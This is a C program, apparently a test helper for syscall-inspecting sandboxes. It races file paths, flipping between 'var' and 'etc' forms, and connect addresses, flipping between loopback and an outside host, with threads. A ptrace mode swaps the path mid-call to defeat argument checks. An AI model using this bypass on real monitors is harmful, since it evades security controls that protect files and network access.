// SPDX-License-Identifier: Apache-2.0
/* race open|connect|traced ...: shows one thing to who looks at a system call's arguments, and another to the system call.
 * open FILE SECONDS, connect ADDRESS PORT SECONDS: a second thread changes the path or address back and forth meanwhile.
 * traced FILE: a tracer changes the argument when the call has begun. The harmless file is FILE with "var" for "etc". */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/types.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char path[4096] __attribute__((aligned(8))), evil[4096];
static struct sockaddr_in to;
static in_addr_t outside;

static void *flip_path(void *unused)
{
	__u64 harmless, other;

	/* Eight bytes at once, so that each path is one or the other. */
	memcpy(&harmless, path, 8);
	memcpy(&other, evil, 8);
	for (;;) {
		__atomic_store_n((__u64 *)path, harmless, __ATOMIC_RELAXED);
		__atomic_store_n((__u64 *)path, other, __ATOMIC_RELAXED);
	}
	return unused;
}

static void *flip_address(void *unused)
{
	for (;;) {
		__atomic_store_n(&to.sin_addr.s_addr, htonl(INADDR_LOOPBACK), __ATOMIC_RELAXED);
		__atomic_store_n(&to.sin_addr.s_addr, outside, __ATOMIC_RELAXED);
	}
	return unused;
}

static int open_once(void)
{
	int fd = open(path, O_WRONLY | O_APPEND);
	int done = fd >= 0 && write(fd, "x", 1) == 1;

	if (fd >= 0)
		close(fd);
	return done;
}

static int connect_once(void)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

	connect(fd, (void *)&to, sizeof(to));
	close(fd);
	return 0;
}

static int repeat(void *(*flip)(void *), int (*once)(void), int seconds)
{
	time_t until = time(0) + seconds;
	pthread_t other;

	if (pthread_create(&other, 0, flip, 0))
		return errno;
	while (time(0) < until)
		once();
	return 0;
}

/* The child asks for the harmless file; its tracer puts the other one's address in place at the call's beginning. */
static int traced(void)
{
	struct user_regs_struct registers;
	pid_t child = fork();
	int status, done = 0;

	if (child == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		int fd = syscall(SYS_openat, AT_FDCWD, path, O_WRONLY | O_APPEND);
		_exit(fd < 0 || write(fd, "x", 1) != 1);
	}
	waitpid(child, &status, 0);
	while (!WIFEXITED(status) && !WIFSIGNALED(status)) {
		if (ptrace(PTRACE_GETREGS, child, 0, &registers) == 0 && registers.orig_rax == SYS_openat && !done &&
		    registers.rax == (unsigned long long)-ENOSYS) {
			registers.rsi = (unsigned long)evil;
			ptrace(PTRACE_SETREGS, child, 0, &registers);
			done = 1;
		}
		if (ptrace(PTRACE_SYSCALL, child, 0, 0) || waitpid(child, &status, 0) != child)
			break;
	}
	return WIFEXITED(status) ? WEXITSTATUS(status) : EPERM;
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	if (strcmp(argv[1], "connect") == 0 && argc == 5) {
		to.sin_family = AF_INET;
		to.sin_port = htons(atoi(argv[3]));
		outside = inet_addr(argv[2]);
		to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		return repeat(flip_address, connect_once, atoi(argv[4]));
	}
	snprintf(path, sizeof(path), "%s", argv[2]);
	snprintf(evil, sizeof(evil), "%s", argv[2]);
	memcpy(path + 1, "var", 3);
	if (strcmp(argv[1], "open") == 0 && argc == 4)
		return repeat(flip_path, open_once, atoi(argv[3]));
	return strcmp(argv[1], "traced") == 0 ? traced() : 2;
}
